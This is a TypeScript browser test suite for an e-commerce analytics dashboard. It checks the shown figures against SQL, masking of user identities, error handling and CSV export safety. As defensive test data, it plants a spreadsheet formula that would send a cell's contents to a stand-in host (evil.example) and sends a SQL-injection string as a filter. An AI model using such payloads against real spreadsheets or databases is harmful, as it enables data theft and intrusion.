/**
 * The analysts' dashboard in a real browser (Debian's Chromium through playwright-core), over a
 * generated dataset that the real transform loaded into the file's own analytics database. Each page
 * is loaded, its charts must have rendered with the expected series, and the numbers it shows are
 * compared with SQL over the contract's views and tables (not with the panels' own SQL). Also: the
 * analyst role never sees a raw user id or name, bad filters give a message and never a stack trace,
 * CSV exports are guarded against formula injection, and the realtime page refreshes in place.
 * Screenshots go to ETL_DASHBOARD_SCREENSHOTS (default .run/dashboard-screenshots).
 */
import { randomUUID } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Server } from 'node:http';
import type { Pool } from 'pg';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDashboard } from '../../dashboard/server';
import { dashboardPools, temporalRuns } from '../../dashboard/start';
import { PANELS } from '../../dashboard/panels';
import { generateDataset } from '../../shop/generator';
import { partitionAt } from '../../workflows/partitions';
import { EtlPipeline } from '../../workflows/search-attributes';
import { insertAlert } from '../../activities/common/alerts';
import { runLoad } from '../../activities/common/loads';
import { upsertDimensions } from '../../activities/transform/dimensions';
import { launchChromium } from '../support/browser';
import { testEnv, type TestEnv } from '../support/env';
import { runTransforms } from '../support/transform-run';
import { seedStaging } from '../support/transform-seed';

const START = '2026-08-20';
const DAYS = 10;
const SHOTS = process.env.ETL_DASHBOARD_SCREENSHOTS ?? join(process.cwd(), '.run', 'dashboard-screenshots');
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click me")';

describe('the dashboard in a real browser, over data the transform loaded (real PostgreSQL, Temporal, S3, Chromium)', () => {
  let env: TestEnv;
  let pools: { analytics: Pool; staging: Pool };
  let temporal: ReturnType<typeof temporalRuns>;
  let server: Server;
  let base: string;
  let browser: Browser;
  let page: Page;
  let dir: string;
  let range: { from: string; to: string };
  let terminatedRun: { workflowId: string; runId: string };
  const browserErrors: string[] = [];
  const owner = () => env.deps.analytics;
  const one = async <T>(db: Pool, sql: string, params: unknown[] = []) => (await db.query(sql, params)).rows[0] as T;
  const rowsOf = async (db: Pool, sql: string, params: unknown[] = []) => (await db.query(sql, params)).rows as Array<Record<string, unknown>>;

  /** The table cells of a panel as the page shows them: one record per row, column -> text. */
  const shown = (id: string) => page.$$eval(`#panel-${id} table.data tbody tr`, (trs) => trs.map((tr) => Object.fromEntries(
    [...tr.querySelectorAll('td')].map((td) => [td.getAttribute('data-col') ?? '', td.textContent ?? '']))));
  const chartSeries = (id: string) => page.$eval(`#panel-${id} .chart`, (el) => Number(el.getAttribute('data-series')));

  async function open(path: string): Promise<number> {
    const res = await page.goto(`${base}${path}`, { waitUntil: 'load' });
    await expect.poll(() => page.locator('.chart:not([data-rendered="true"])').count(), { timeout: 20_000 }).toBe(0);
    return res?.status() ?? 0;
  }

  beforeAll(async () => {
    env = await testEnv('dashboard');
    const prefix = `db${randomUUID().slice(0, 6)}-`;
    dir = mkdtempSync(join(tmpdir(), 'etl-dashboard-'));
    await generateDataset({ seed: 11, start: START, days: DAYS, scale: 0.02, dirt: 'default', out: dir });
    const arrived = new Date('2026-09-10T12:30:00.000Z');
    await seedStaging(env.deps.staging, dir, prefix, `test/${prefix}`, arrived);
    await runTransforms(env, [partitionAt('transform', arrived)], `/test-${prefix}`);
    // A product whose name a spreadsheet would run, among the sellers; and the realtime tables.
    await owner().query(`update dim_product set product_name = $1 where product_id = (select product_id from product_sales order by units desc, product_id limit 1)`, [EVIL]);
    await owner().query(`insert into realtime_minute (minute, events, active_users, orders, sessions_viewed, sessions_ordered, conversion, refreshed_at)
      select m, 100 + i, 40 + i, i % 4, 30, i % 4, round((i % 4)::numeric / 30, 4), now()
      from generate_series(1, 20) i, lateral (select timestamptz '2026-09-10 12:00Z' + i * interval '1 minute' as m) x`);
    await owner().query(`insert into realtime_minute_events (minute, event_name, events)
      select minute, n, case n when 'view' then events - 10 when 'add_to_cart' then 7 else 3 end from realtime_minute, unnest(array['view', 'add_to_cart', 'order']) n`);
    await owner().query(`insert into realtime_alerts (alert_id, event_name, minute, last_minute, observed, expected, score, peak, raised_at)
      values ('test/spike', 'view', '2026-09-10 12:15Z', '2026-09-10 12:16Z', 400, 95, 8.5, 400, now())`);
    // A churn run as the ML worker stores it (ml/shop_ml/store.py), for the churn page; its scores over this file's customers.
    const churnRun = `test/${prefix}churn`;
    for (const [i, model] of ['recency_baseline', 'logistic_regression', 'gradient_boosting'].entries()) {
      await owner().query(`insert into churn_model_runs (run_id, model, cutoff, test_cutoff, train_cutoffs, horizon_days, params, metrics, importances, training_rows, test_rows, scored_rows, duration_seconds, artefact, library_versions)
        values ($1, $2, '2026-09-10', '2026-09-03', array['2026-08-27']::date[], 7, '{}', $3, $4, 900, 400, 380, 3.5, 's3://b/models/churn/x/', '{}')`,
      [churnRun, model, { roc_auc: 0.7 + i * 0.03, pr_auc: 0.5 + i * 0.02, brier: 0.2 - i * 0.01, precision_top_decile: 0.8, recall_top_decile: 0.25, lift_over_recency: 1 + i * 0.1, base_rate: 0.31 },
        { recency_days: 0.02 + i * 0.01, return_rate: 0.015, cart_to_order: 0.004 }]);
    }
    await owner().query(`insert into churn_scores (run_id, model, customer_id, score, risk_band, country, top_category)
      select $1, m, customer_id, (abs(hashtext(customer_id)) % 1000) / 1000.0, case when abs(hashtext(customer_id)) % 10 = 0 then 'high' else 'low' end, country, 'garden'
      from dim_customer, unnest(array['logistic_regression', 'gradient_boosting']) m`, [churnRun]);
    // Loads and an alert as the pipelines record them, for the health page.
    for (const [pipeline, n] of [['orders', 3], ['files', 2]] as const) {
      for (let i = 0; i < n; i++) await runLoad(env.deps.staging, { loadId: `${pipeline}/test-${prefix}${i}`, pipeline, source: pipeline }, async () => ({ received: 10 + i, loaded: 9, quarantined: 1, duplicates: i }));
    }
    await insertAlert(env.deps.staging, { alertId: `test/${prefix}failed`, pipeline: 'orders', kind: 'failed', message: 'orders partition failed (planted by the dashboard test)', workflowId: 'orders/2026-09-10T12:00', runId: 'run-1' });
    // A pipeline run that was terminated, as the health page's Temporal panel must list it.
    const planted = await env.client.workflow.start('plantedByTheDashboardTest', {
      taskQueue: `nobody-${prefix}`, workflowId: `orders/planted-${prefix}`, args: [], typedSearchAttributes: [{ key: EtlPipeline, value: 'orders' }],
    });
    await planted.terminate('planted by the dashboard test');
    terminatedRun = { workflowId: planted.workflowId, runId: planted.firstExecutionRunId };
    const latest = await one<{ d: string }>(owner(), `select max(order_date)::text d from orders_by_date`);
    range = { from: new Date(Date.parse(latest.d) - 29 * 86_400_000).toISOString().slice(0, 10), to: latest.d };

    pools = dashboardPools(env.config);
    temporal = temporalRuns(env.config);
    server = createDashboard({ ...pools, listRuns: temporal.listRuns, temporalUi: env.config, log: () => undefined });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    browser = await launchChromium();
    page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    // The bad-filter pages answer 400 on purpose; anything else the browser reports is an error.
    page.on('console', (m) => { if (m.type() === 'error' && !m.text().includes('status of 400')) browserErrors.push(`${page.url()}: ${m.text()}`); });
    page.on('pageerror', (e) => browserErrors.push(e.message));
    mkdirSync(SHOTS, { recursive: true });
  }, 300_000);

  afterAll(async () => {
    await browser?.close();
    await new Promise((resolve) => (server ? server.close(resolve) : resolve(undefined)));
    await Promise.all([pools?.analytics.end(), pools?.staging.end(), temporal?.close()]);
    await env?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('reads analytics as etl_analyst, which cannot read the table of names', async () => {
    expect(await one(pools.analytics, 'select current_user as u')).toEqual({ u: 'etl_analyst' });
    await expect(pools.analytics.query('select * from dim_customer limit 1')).rejects.toThrow(/permission denied/);
  });

  it('overview: the figures equal the contract tables, and both charts rendered', async () => {
    expect(await open('/overview')).toBe(200);
    const kpis = Object.fromEntries((await shown('overview-kpis')).map((r) => [r.metric, r.value]));
    const r = [range.from, range.to];
    const sales = await one<{ revenue: string; orders: string }>(pools.analytics, 'select sum(revenue) as revenue, sum(orders) as orders from orders_by_date where order_date between $1 and $2', r);
    const aov = await one<{ v: string }>(pools.analytics, 'select round(sum(amount) / count(*), 2) as v from orders where not cancelled and order_date between $1 and $2', r);
    const visitors = await one<{ v: string }>(pools.analytics, 'select round(sum(visitors)::numeric / ($2::date - $1::date + 1), 1) as v from daily_unique_visitors where event_date between $1 and $2', r);
    expect(kpis).toEqual({ revenue: sales.revenue, orders: sales.orders, 'average order value': aov.v, 'unique visitors per day': visitors.v });
    // Against the 30 days before: the previous value and the change.
    const revenueRow = (await shown('overview-kpis')).find((k) => k.metric === 'revenue')!;
    const before = await one<{ prev: string; change: string | null }>(pools.analytics, `select coalesce(sum(revenue), 0)::text as prev,
      case when coalesce(sum(revenue), 0) <> 0 then round(($2::numeric - sum(revenue)) / abs(sum(revenue)), 4)::text end as change
      from orders_by_date where order_date between $1::date - 30 and $1::date - 1`, [range.from, sales.revenue]);
    expect({ previous: revenueRow.previous, change: revenueRow.change }).toEqual({ previous: before.prev, change: before.change ?? '' });
    expect(Number(sales.orders)).toBeGreaterThan(50);
    // A date without events gets no visitors row (as daily_unique_visitors), not a row of 0.
    expect(await one(owner(), 'select count(*)::int n from visitors_daily_country where visitors = 0')).toEqual({ n: 0 });
    expect(await one(owner(), `select count(*)::int n from visitors_daily_country where country = '*'`)).toEqual(await one(owner(), 'select count(*)::int n from daily_unique_visitors'));

    const months = await rowsOf(pools.analytics, `select month::text, revenue::text from monthly_revenue where month >= date_trunc('month', $1::date) - interval '11 months' and month <= $1 order by month`, [range.to]);
    expect((await shown('monthly-revenue')).map((m) => ({ month: m.month, revenue: m.revenue }))).toEqual(months);
    const days = await rowsOf(pools.analytics, 'select order_date::text, orders::text from orders_by_date where order_date between $1 and $2 order by 1', r);
    expect((await shown('orders-by-date')).map((d) => ({ order_date: d.order_date, orders: d.orders }))).toEqual(days);
    expect(await chartSeries('monthly-revenue')).toBe(1);
    expect(await chartSeries('orders-by-date')).toBe(1);
    expect(await page.$$eval('#panel-orders-by-date .chart svg path', (p) => p.length)).toBeGreaterThan(days.length);
    await page.screenshot({ path: join(SHOTS, 'overview.png'), fullPage: true });
  });

  it('overview under a category and a country: the figures equal the facts of that segment', async () => {
    const seg = await one<{ category: string; country: string }>(owner(), `select p.category_key as category, c.country from fact_order_line f join dim_product p using (product_id)
      join dim_customer c using (customer_id) where not f.cancelled group by 1, 2 order by count(*) desc, 1, 2 limit 1`);
    await open(`/overview?category=${encodeURIComponent(seg.category)}&country=${encodeURIComponent(seg.country)}`);
    const kpis = Object.fromEntries((await shown('overview-kpis')).map((r) => [r.metric, r.value]));
    const facts = await one<{ revenue: string; orders: string }>(owner(), `select sum(f.amount) filter (where not f.cancelled) as revenue, count(distinct (f.source, f.order_id))::text as orders
      from fact_order_line f join dim_product p using (product_id) join dim_customer c using (customer_id)
      where f.order_date between $1 and $2 and p.category_key = $3 and c.country = $4`, [range.from, range.to, seg.category, seg.country]);
    expect({ revenue: kpis.revenue, orders: kpis.orders }).toEqual(facts);
    expect(await page.inputValue('select[name=category]')).toBe(seg.category);
    // The filter state is the URL: the nav keeps it, so the view can be shared.
    expect(await page.$eval('nav a[href^="/products"]', (a) => a.getAttribute('href'))).toContain(`category=${encodeURIComponent(seg.category).replace(/%20/g, '+')}`);
  });

  it('products: the top 10 equal top_products_last_month, and the CSV export defuses a formula', async () => {
    await open('/products');
    const top = await rowsOf(pools.analytics, 'select rank::text, product_id, units::text, revenue::text from top_products_last_month t order by t.rank, t.product_id');
    const listed = (await shown('top-products')).map((t) => ({ rank: t.rank, product_id: t.product_id, units: t.units, revenue: t.revenue }));
    expect(listed).toEqual(top);
    expect(await chartSeries('top-products')).toBe(1);
    expect((await shown('top-products')).some((t) => t.product_name === EVIL)).toBe(true);
    const csv = await (await fetch(`${base}/export/top-products.csv`)).text();
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click me"")"`);
    expect(csv.split('\r\n').some((line) => /(^|,)=/.test(line))).toBe(false);
    expect(csv.split('\r\n')[0]).toBe('rank,product_id,product_name,units,revenue');
    const rankings = await shown('product-rankings');
    expect(new Set(rankings.map((x) => x.ranking))).toEqual(new Set(['most sold', 'most wishlisted', 'most returned']));
    await page.screenshot({ path: join(SHOTS, 'products.png'), fullPage: true });
  });

  it('inventory: a heatmap cell per category and month, and the lowest stock from the latest levels', async () => {
    await open('/inventory');
    const cells = await shown('turnover-heatmap');
    expect(cells.length).toBeGreaterThan(0);
    expect(await chartSeries('turnover-heatmap')).toBe(1);
    // The heatmap's cells from every inventory version, computed here (the dashboard reads tables the transform keeps).
    const months = await rowsOf(owner(), `with stock as (
        select product_id, month, sum(a) as avg_stock from (select product_id, warehouse, date_trunc('month', updated_at at time zone 'UTC')::date as month, avg(stock_level) as a
          from work.inventory group by 1, 2, 3) w group by 1, 2),
      sold as (select product_id, date_trunc('month', order_date)::date as month, sum(quantity) filter (where not cancelled) as units from fact_order_line group by 1, 2)
      select coalesce(p.category_key, '(none)') as category, s.month::text, coalesce(sum(u.units), 0)::text as units_sold,
             case when sum(s.avg_stock) > 0 then round(coalesce(sum(u.units), 0) / sum(s.avg_stock), 4)::text end as turnover
      from stock s join dim_product p using (product_id) left join sold u using (product_id, month)
      where s.month between date_trunc('month', $1::date) and $2::date group by 1, 2 order by 1, 2`, [range.from, range.to]);
    expect(cells.map(({ category, month, units_sold, turnover }) => ({ category, month, units_sold, turnover }))).toEqual(months.map((m) => ({ ...m, turnover: m.turnover ?? '' })));
    const low = await rowsOf(owner(), `select product_id, sum(stock_level)::text as stock from (select distinct on (product_id, warehouse) product_id, stock_level
      from work.inventory order by product_id, warehouse, updated_at desc) l group by 1 order by sum(stock_level), 1 limit 20`);
    expect((await shown('low-stock')).map((l) => ({ product_id: l.product_id, stock: l.stock }))).toEqual(low);
    await page.screenshot({ path: join(SHOTS, 'inventory.png'), fullPage: true });
  });

  it('customers and countries: country_summary and purchase_funnel, over a range that holds all the data', async () => {
    const all = await one<{ from: string; to: string }>(pools.analytics, 'select min(order_date)::text as from, max(order_date)::text as to from orders_by_date');
    await open(`/customers?from=${all.from}&to=${all.to}`);
    const countries = await rowsOf(pools.analytics, 'select country, customers::text, orders::text, quantity::text, revenue::text, avg_quantity::text from country_summary s order by s.revenue desc, s.country');
    expect((await shown('countries')).map(({ country, customers, orders, quantity, revenue, avg_quantity }) => ({ country, customers, orders, quantity, revenue, avg_quantity }))).toEqual(countries);
    const funnel = await one<Record<string, string>>(pools.analytics, 'select sum(viewers)::text as viewers, sum(add_to_cart_users)::text as add_to_cart_users, sum(buyers)::text as buyers from purchase_funnel where event_date between $1 and $2', [all.from, all.to]);
    const [f] = await shown('funnel');
    expect({ viewers: f!.viewers, add_to_cart_users: f!.add_to_cart_users, buyers: f!.buyers }).toEqual(funnel);
    // Over all the data, the high-value panel is the high_value_orders view's 50 largest (the p95 of every order).
    const high = await rowsOf(pools.analytics, `select source, order_id, order_date::text, customer_id, country, amount::text from high_value_orders h order by h.amount desc, h.order_id limit 50`);
    expect(high.length).toBeGreaterThan(0);
    expect((await shown('high-value-orders')).map(({ source, order_id, order_date, customer_id, country, amount }) => ({ source, order_id, order_date, customer_id, country, amount }))).toEqual(high);
    await page.screenshot({ path: join(SHOTS, 'customers.png'), fullPage: true });
  });

  it("churn: the latest run's metrics beside the recency baseline, its drivers, and the riskiest segments, as stored", async () => {
    await open('/churn');
    const models = await rowsOf(pools.analytics, `select model, round((metrics->>'roc_auc')::numeric, 3)::text as roc_auc, round((metrics->>'brier')::numeric, 3)::text as brier from churn_latest_runs order by model`);
    expect(models.map((m) => m.model)).toEqual(['gradient_boosting', 'logistic_regression', 'recency_baseline']);
    expect((await shown('churn-models')).map(({ model, roc_auc, brier }) => ({ model, roc_auc, brier })).sort((a, b) => a.model!.localeCompare(b.model!))).toEqual(models);
    expect(await chartSeries('churn-models')).toBe(2);
    expect((await shown('churn-features')).map((f) => f.feature)).toEqual(['recency_days', 'return_rate', 'cart_to_order']);
    const segments = await rowsOf(pools.analytics, `select country, customers::text, high_risk::text from churn_risk_segments where model = 'gradient_boosting' and customers >= 5 order by avg_score desc, customers desc, country, top_category limit 25`);
    expect(segments.length).toBeGreaterThan(0);
    expect((await shown('churn-segments')).map(({ country, customers, high_risk }) => ({ country, customers, high_risk }))).toEqual(segments);
    await page.screenshot({ path: join(SHOTS, 'churn.png'), fullPage: true });
  });

  it('realtime: per-minute charts with the spike marked, refreshed in place without a reload', async () => {
    await open('/realtime');
    expect(await chartSeries('realtime-events')).toBe(3);
    expect(await chartSeries('realtime-activity')).toBe(2);
    expect(await page.$$eval('#panel-realtime-activity .chart svg text', (t) => t.some((x) => x.textContent === 'spike'))).toBe(true);
    expect((await shown('realtime-activity')).length).toBe(20);
    await page.evaluate('window.marker = 1');
    await owner().query(`insert into realtime_minute (minute, events, active_users, orders, sessions_viewed, sessions_ordered, conversion, refreshed_at)
      values ('2026-09-10 12:21Z', 999, 77, 1, 30, 1, 0.0333, now())`);
    await page.locator('#panel-realtime-activity td[data-col=events]', { hasText: /^999$/ }).waitFor({ timeout: 20_000 });
    expect(await page.evaluate('window.marker')).toBe(1); // the same page: no reload
    await page.screenshot({ path: join(SHOTS, 'realtime.png'), fullPage: true });
  });

  it('pipeline health: the loads per pipeline equal etl.loads, with freshness', async () => {
    await open('/health');
    const loads = await rowsOf(env.deps.staging, `select pipeline, count(*)::text as loads from etl.loads where finished_at > now() - interval '24 hours' group by 1 order by 1`);
    expect(loads.length).toBeGreaterThan(0);
    expect((await shown('pipeline-freshness')).map((p) => ({ pipeline: p.pipeline, loads: p.loads_24h }))).toEqual(loads);
    expect((await shown('pipeline-freshness')).every((p) => Number(p.age_seconds) >= 0 && p.last_load !== '')).toBe(true);
    const received = await one<{ n: string }>(env.deps.staging, `select sum(received)::text n from etl.loads where pipeline = 'orders'`);
    expect((await shown('pipeline-freshness')).find((p) => p.pipeline === 'orders')?.received_24h).toBe(received.n);
    const link = await page.getAttribute('#panel-alerts td[data-col=workflow_id] a', 'href');
    expect(link).toBe(`${env.config.TEMPORAL_UI_URL}/namespaces/${env.config.TEMPORAL_NAMESPACE}/workflows/${encodeURIComponent('orders/2026-09-10T12:00')}/run-1/history`);
    // The terminated run, from Temporal's visibility store (eventually consistent: reload until it shows).
    await expect.poll(async () => {
      await open('/health');
      return (await shown('workflow-runs')).find((r) => r.workflow_id === terminatedRun.workflowId);
    }, { timeout: 20_000, interval: 1000 }).toMatchObject({ run_id: terminatedRun.runId, status: 'terminated', pipeline: 'orders' });
    expect(await page.getAttribute(`#panel-workflow-runs td[data-col=workflow_id] a[href*="${encodeURIComponent(terminatedRun.workflowId)}"]`, 'href'))
      .toBe(`${env.config.TEMPORAL_UI_URL}/namespaces/${env.config.TEMPORAL_NAMESPACE}/workflows/${encodeURIComponent(terminatedRun.workflowId)}/${terminatedRun.runId}/history`);
    await page.screenshot({ path: join(SHOTS, 'health.png'), fullPage: true });
  });

  it('never shows a raw user id or an unmasked name, on any page or in any export', async () => {
    const users = await rowsOf(env.deps.staging, 'select user_id, user_name from staging.users');
    const secrets = users.flatMap((u) => [String(u.user_id), ...(typeof u.user_name === 'string' && u.user_name.trim().length > 3 ? [u.user_name.trim()] : [])]);
    expect(secrets.length).toBeGreaterThan(100);
    const bodies = [
      ...await Promise.all(['overview', 'products', 'inventory', 'customers', 'churn', 'realtime', 'health'].map(async (p) => (await fetch(`${base}/${p}`)).text())),
      ...await Promise.all(PANELS.map(async (p) => (await fetch(`${base}/export/${p.id}.csv`)).text())),
    ];
    for (const body of bodies) for (const s of secrets) if (body.includes(s)) throw new Error(`the dashboard shows ${JSON.stringify(s)}, a raw user id or name`);
  });

  it('bad filters: a clear message on the page, never a stack trace', async () => {
    expect(await open('/overview?from=2026-13-45')).toBe(400);
    expect(await page.textContent('.problem')).toBe('from must be a date as YYYY-MM-DD, got "2026-13-45".');
    expect(await open(`/overview?from=${range.to}&to=${range.from}`)).toBe(400);
    expect(await page.textContent('.problem')).toBe(`The range is reversed: from ${range.to} is after to ${range.from}.`);
    expect(await open('/overview?from=1990-01-01&to=1990-01-31')).toBe(200);
    expect(await page.textContent('.notice')).toMatch(/^No orders between 1990-01-01 and 1990-01-31: the data covers \d{4}-\d{2}-\d{2} to /);
    const hostile = await fetch(`${base}/export/countries.csv?country=${encodeURIComponent("x' or '1'='1")}`);
    expect(hostile.status).toBe(200);
    expect((await hostile.text()).trim()).toBe('country,customers,orders,quantity,revenue,avg_quantity');
    const body = await (await fetch(`${base}/products?to=tomorrow`)).text();
    expect(body).not.toMatch(/\n\s+at |Error:/);
    expect((await fetch(`${base}/nowhere`)).status).toBe(404);
  });

  it('fits a phone screen: nothing wider than the viewport', async () => {
    await page.setViewportSize({ width: 390, height: 844 });
    await open('/overview');
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(390);
    await page.setViewportSize({ width: 1280, height: 900 });
  });

  it('a customer moving country relabels the dates of their facts, and the segments follow', async () => {
    const c = await one<{ id: string; country: string }>(owner(), `select customer_id as id, country from dim_customer d
      where exists (select 1 from fact_order_line f where f.customer_id = d.customer_id and not f.cancelled) order by customer_id limit 1`);
    const expected = (await rowsOf(owner(), `select to_char(x, 'YYYY-MM-DD') as d from (select order_date from fact_order_line where customer_id = $1
      union select event_date from fact_event where customer_id = $1) t(x) order by 1`, [c.id])).map((r) => r.d);
    const client = await owner().connect();
    try {
      await client.query('begin');
      await client.query(`insert into work.users (customer_id, updated_at, user_name, country, signup_date) values ($1, '2099-01-01Z', 'Mover', 'ZZ', null)`, [c.id]);
      await client.query('create temp table _in on commit drop as select $1::text as customer_id', [c.id]);
      const dates = await upsertDimensions(client, 'users');
      expect(dates).toEqual(expected);
      expect(await upsertDimensions(client, 'users')).toEqual([]); // nothing changes twice
      for (const d of dates) {
        await client.query('select work.refresh_metrics($1::date)', [d]);
        await client.query('select work.refresh_customer_days($1::date)', [d]);
      }
      await client.query('commit');
    } finally {
      client.release();
    }
    const moved = await one<{ revenue: string | null }>(owner(), `select sum(revenue)::text as revenue from sales_daily_segment where category = '*' and country = 'ZZ'`);
    const theirs = await one<{ revenue: string }>(owner(), 'select sum(amount)::text as revenue from fact_order_line where customer_id = $1 and not cancelled', [c.id]);
    expect(moved.revenue).toBe(theirs.revenue);
    await open('/overview');
    expect(await page.$$eval('select[name=country] option', (o) => o.map((x) => x.textContent))).toContain('ZZ');
  });

  it('the browser logged no error and no content-security-policy violation on any page', () => {
    expect(browserErrors).toEqual([]);
  });
});
